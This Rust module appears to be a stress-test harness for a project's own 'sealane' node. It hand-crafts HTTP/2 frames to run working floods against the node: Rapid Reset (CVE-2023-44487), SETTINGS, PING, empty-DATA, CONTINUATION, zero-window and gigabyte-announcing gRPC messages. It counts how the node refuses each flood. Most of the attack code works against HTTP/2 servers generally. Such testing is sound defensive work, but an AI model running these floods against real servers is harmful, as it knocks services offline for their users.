//! HTTP/2 by hand ([RFC 9113](https://www.rfc-editor.org/rfc/rfc9113)), under a member's certificate: what no client's
//! library sends.

use std::sync::Arc;
use std::time::Duration;

use sealane_wire::tls::Session;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, ReadHalf, WriteHalf};
use tokio::time::{sleep, timeout};

use super::calls::keys;
use super::target::Target;
use super::{Tally, side_by_side};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// The setting `SETTINGS_INITIAL_WINDOW_SIZE`.
const WINDOW: u16 = 4;
/// The error codes of RFC 9113, section 7, that floods meet.
const CALM: u32 = 11;

/// Connections at a time.
const CONNECTIONS: usize = 8;
/// Frames, or requests, that are written at once.
const BURST: u32 = 128;

/// What is sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Requests that are reset as soon as they are sent (CVE-2023-44487).
    RapidReset,
    /// Settings, each of which asks for an acknowledgement (CVE-2019-9515).
    Settings,
    /// Pings, each of which asks for an answer (CVE-2019-9512).
    Pings,
    /// Frames of data without data, which never end their stream (CVE-2019-9518).
    EmptyFrames,
    /// Headers that are continued without end (CVE-2024-27316).
    Continuations,
    /// Requests whose answers are never let through: the window has no room.
    ShutWindow,
    /// Messages that announce a gigabyte and bring some bytes of it: a call's message, a field of one, a list of a
    /// transaction.
    Gigabyte,
}

/// What is announced, in bytes.
const GIGABYTE: u32 = 1 << 30;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len())
        .expect("a short frame")
        .to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

fn setting(name: u16, value: u32) -> Vec<u8> {
    [&name.to_be_bytes()[..], &value.to_be_bytes()].concat()
}

/// The headers of a call, by HPACK ([RFC 7541](https://www.rfc-editor.org/rfc/rfc7541)) without Huffman codes.
fn headers(path: &str) -> Vec<u8> {
    let text = |text: &str| {
        let length = u8::try_from(text.len()).expect("a short text");
        [&[length][..], text.as_bytes()].concat()
    };
    let mut block = vec![0x83, 0x86]; // :method POST, :scheme http
    block.extend([&[0x04][..], &text(path)].concat()); // :path
    block.extend([&[0x01][..], &text("node")].concat()); // :authority
    block.extend([&[0x0f, 0x10][..], &text("application/grpc")].concat()); // content-type
    block.extend([&[0x00][..], &text("te"), &text("trailers")].concat());
    block
}

/// A message as gRPC sends it: not compressed, its length, its bytes.
fn message(bytes: &[u8]) -> Vec<u8> {
    let length = u32::try_from(bytes.len()).expect("a short message");
    [&[0][..], &length.to_be_bytes(), bytes].concat()
}

/// A call whose message, whose field or whose transaction announces a gigabyte, by turns.
fn announcing(stream: u32) -> Vec<u8> {
    let field = |length: u32| {
        let groups = [0, 7, 14, 21, 28].map(|shift| (length >> shift) as u8 & 0x7f);
        let mut field = vec![0x0a];
        field.extend(groups.iter().take(4).map(|group| group | 0x80));
        field.push(groups[4]);
        field
    };
    match (stream / 2) % 3 {
        0 => {
            let headers = headers("/sealane.v1.Node/Submit");
            let begins = [&[0][..], &GIGABYTE.to_be_bytes(), &[7; 64]].concat();
            let headers = frame(HEADERS, END_HEADERS, stream, &headers);
            [headers, frame(DATA, 0, stream, &begins)].concat()
        }
        1 => call(stream, "Submit", &[field(GIGABYTE), vec![7; 64]].concat()),
        _ => {
            // chain, signer, sequence, and a record whose parts' number is too large
            let transaction = [
                &[7; 32 + 32 + 8][..],
                &[0; 8],
                &GIGABYTE.to_le_bytes(),
                &[7; 64],
            ];
            let transaction = transaction.concat();
            let length = u32::try_from(transaction.len()).expect("a short one");
            call(stream, "Submit", &[field(length), transaction].concat())
        }
    }
}

/// A question for as many keys as one may ask for, in protobuf.
fn question() -> Vec<u8> {
    let field = |key: Vec<u8>| {
        let length = [key.len() as u8 | 0x80, (key.len() >> 7) as u8];
        [&[0x0a][..], &length, &key].concat()
    };
    keys(0).into_iter().flat_map(field).collect()
}

/// A whole call on a stream.
fn call(stream: u32, method: &str, request: &[u8]) -> Vec<u8> {
    let path = format!("/sealane.v1.Node/{method}");
    let headers = frame(HEADERS, END_HEADERS, stream, &headers(&path));
    // 16 KiB is what a frame may have at first
    let whole = message(request);
    let mut pieces = whole.chunks(16 << 10).peekable();
    let mut all = headers;
    while let Some(piece) = pieces.next() {
        let flags = if pieces.peek().is_none() {
            END_STREAM
        } else {
            0
        };
        all.extend(frame(DATA, flags, stream, piece));
    }
    all
}

impl Attack {
    /// What follows the preface.
    fn begins(self) -> Vec<u8> {
        let settings = match self {
            Self::ShutWindow => setting(WINDOW, 0),
            _ => Vec::new(),
        };
        let mut begins = [PREFACE, &frame(SETTINGS, 0, 0, &settings)].concat();
        let open = |flags| frame(HEADERS, flags, 1, &headers("/sealane.v1.Node/GetStatus"));
        match self {
            Self::EmptyFrames => begins.extend(open(END_HEADERS)),
            Self::Continuations => begins.extend(open(0)),
            _ => {}
        }
        begins
    }

    /// The next frames, the streams of which begin at a number; how many it takes of them.
    fn burst(self, stream: u32) -> (Vec<u8>, u32) {
        let each = |one: &dyn Fn(u32) -> Vec<u8>| (0..BURST).flat_map(one).collect();
        match self {
            Self::RapidReset => {
                let request = question();
                let one = |number: u32| {
                    let stream = stream + 2 * number;
                    let reset = frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
                    [call(stream, "QueryState", &request), reset].concat()
                };
                (each(&one), BURST)
            }
            Self::Settings => (
                each(&|number| frame(SETTINGS, 0, 0, &setting(WINDOW, 65_535 + number))),
                0,
            ),
            Self::Pings => (each(&|_| frame(PING, 0, 0, &[7; 8])), 0),
            Self::EmptyFrames => (each(&|_| frame(DATA, 0, 1, &[])), 0),
            Self::Continuations => {
                let header = [&[0x00, 1][..], b"x", &[100], &[b'y'; 100]].concat();
                (each(&|_| frame(CONTINUATION, 0, 1, &header)), 0)
            }
            Self::Gigabyte => (each(&|number| announcing(stream + 2 * number)), BURST),
            Self::ShutWindow => {
                let one = |number: u32| call(stream + 2 * number, "GetGenesis", &[]);
                (each(&one), BURST)
            }
        }
    }
}

/// Connections on which the frames come, each made anew when the node ends it.
pub(super) async fn flood(attack: Attack, target: Arc<Target>, tally: Arc<Tally>) {
    let task = |_| {
        let (target, tally) = (Arc::clone(&target), Arc::clone(&tally));
        async move {
            while tally.goes_on() {
                match target.session().await {
                    Some(session) => on_one(attack, session, &tally).await,
                    None => tally.refused("no connection", "no connection was made"),
                }
                sleep(Duration::from_millis(10)).await;
            }
        }
    };
    side_by_side(CONNECTIONS, task).await;
}

/// Until the connection ends or the flood is over.
async fn on_one(attack: Attack, session: Session, tally: &Tally) {
    let (reader, writer) = tokio::io::split(session);
    let reads = async {
        let calm = read(reader, tally).await;
        let code = calm.map_or_else(
            || "without a word".to_owned(),
            |code| format!("HTTP/2 error {code}"),
        );
        let word = if calm == Some(CALM) { "calm" } else { "ended" };
        tally.refused(word, &code);
    };
    // what cannot be written any more is told by the reader
    let writes = async {
        let _ = write(attack, writer, tally).await;
        sleep(Duration::from_secs(1)).await;
    };
    tokio::select! {
        () = reads => {}
        () = writes => {}
    }
}

async fn write(
    attack: Attack,
    mut writer: WriteHalf<Session>,
    tally: &Tally,
) -> std::io::Result<()> {
    writer.write_all(&attack.begins()).await?;
    let mut stream = 1;
    // a connection has only so many stream numbers; and those whose window is shut have only so many streams
    let most = if attack == Attack::ShutWindow {
        256
    } else {
        1 << 29
    };
    while tally.goes_on() {
        if stream > 2 * most {
            sleep(Duration::from_millis(50)).await;
            continue;
        }
        let (frames, streams) = attack.burst(stream);
        stream += 2 * streams;
        // whoever reads slowly is waited for, as long as the flood lasts
        let mut rest = &frames[..];
        while !rest.is_empty() && tally.goes_on() {
            if let Ok(written) = timeout(Duration::from_millis(200), writer.write(rest)).await {
                rest = &rest[written?..];
            }
        }
        writer.flush().await?;
        tally.made(BURST as usize);
        tokio::task::yield_now().await;
    }
    Ok(())
}

/// Reads what the node says to its end; the code of its GOAWAY.
async fn read(mut reader: ReadHalf<Session>, tally: &Tally) -> Option<u32> {
    let (mut bytes, mut piece) = (Vec::new(), vec![0; 16 << 10]);
    let mut goodbye = None;
    while let Ok(count @ 1..) = reader.read(&mut piece).await {
        bytes.extend_from_slice(&piece[..count]);
        while let Some((kind, payload)) = next_frame(&mut bytes) {
            match kind {
                GOAWAY => goodbye = payload.get(4..8).map(number),
                RST_STREAM => tally.refused("reset", "a stream was refused"),
                _ => {}
            }
        }
    }
    goodbye
}

fn number(bytes: &[u8]) -> u32 {
    bytes
        .iter()
        .fold(0, |sum, byte| sum << 8 | u32::from(*byte))
}

/// Takes the next whole frame: its kind and payload.
fn next_frame(bytes: &mut Vec<u8>) -> Option<(u8, Vec<u8>)> {
    let (length, kind) = (number(bytes.get(..3)?) as usize, bytes.get(3).copied()?);
    bytes.get(9..9 + length)?;
    let rest = bytes.split_off(9 + length);
    let payload = std::mem::replace(bytes, rest).split_off(9);
    Some((kind, payload))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_taken_one_by_one_and_the_last_one_when_it_is_whole() {
        let mut bytes = frame(GOAWAY, 0, 0, &[0, 0, 0, 7, 0, 0, 0, 11]);
        let rest = frame(DATA, END_STREAM, 5, b"copper");
        bytes.extend(&rest[..12]);
        let (kind, payload) = next_frame(&mut bytes).expect("the first");
        assert_eq!((kind, number(&payload[4..])), (GOAWAY, CALM));
        assert_eq!(next_frame(&mut bytes), None);
        bytes.extend(&rest[12..]);
        assert_eq!(next_frame(&mut bytes), Some((DATA, b"copper".to_vec())));
        assert!(bytes.is_empty());
    }
}
